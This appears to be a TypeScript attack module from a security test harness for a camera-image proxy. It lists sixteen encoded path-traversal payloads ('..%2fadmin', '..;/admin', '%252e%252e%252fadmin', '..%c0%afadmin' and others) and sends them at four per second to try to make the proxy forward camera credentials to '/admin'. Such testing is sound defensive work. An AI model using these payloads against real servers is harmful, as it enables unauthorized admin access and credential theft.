import { type Attack, itemForTurn, runPerSecond } from './attack.ts';
import { imageTarget, requestAndCount } from './requests.ts';

const PER_SECOND = 4;

/** Paths under `/live/` that some servers resolve to `/admin`. */
const PATHS = [
  '..%2fadmin',
  '..%2Fadmin',
  '..;/admin',
  '..;a=b/admin',
  '..%5cadmin',
  '.%2e%2fadmin',
  '%2e%2e%2fadmin',
  '%2e%2e/admin',
  '../admin',
  '..%252fadmin',
  '%252e%252e%252fadmin',
  '..%00/admin',
  '..%c0%afadmin',
  'x/..;/..;/admin',
  'x%2f..%2f..%2fadmin',
  '.;/..;/admin',
];

/** Tries to get a camera's credentials sent to paths that its source does not allow. */
export const escapedPaths: Attack = ({ apis, camera }, count) => {
  runPerSecond(PER_SECOND, (turn) =>
    requestAndCount(
      itemForTurn(apis, turn),
      imageTarget(`${camera}/live/${itemForTurn(PATHS, turn)}`),
      count,
    ),
  );
};
